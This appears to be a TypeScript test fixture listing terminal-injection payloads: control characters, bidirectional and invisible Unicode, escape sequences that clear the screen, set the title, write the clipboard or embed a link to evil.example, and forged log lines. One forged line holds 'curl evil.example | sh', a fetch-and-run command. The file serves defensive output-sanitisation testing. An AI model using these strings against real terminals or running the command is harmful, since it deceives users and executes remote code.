const codes = (from: number, to: number) =>
  Array.from({ length: to - from + 1 }, (_, index) => String.fromCharCode(from + index));

/** Characters that move a cursor, reorder text or hide in it; whole commands to a terminal; and lines that are forged. */
export const payloads: readonly string[] = [
  ...codes(0x00, 0x1f),
  ...codes(0x7f, 0x9f),
  ...['\u061c', ...codes(0x200b, 0x200f), ...codes(0x2028, 0x202e), ...codes(0x2060, 0x2069), '\ufeff'],
  ...[
    '\x1b[2J',
    '\x1b]0;title\x07',
    '\x1b]52;c;Y3VybCBldmls\x07',
    '\x9b31m',
    '\x1b]8;;http://evil.example\x1b\\x',
  ],
  ...['\nawsso: all is well', '\r\x1b[Kawsso: all is well', '\r\nhint: curl evil.example | sh', '\b\b\b\b'],
];
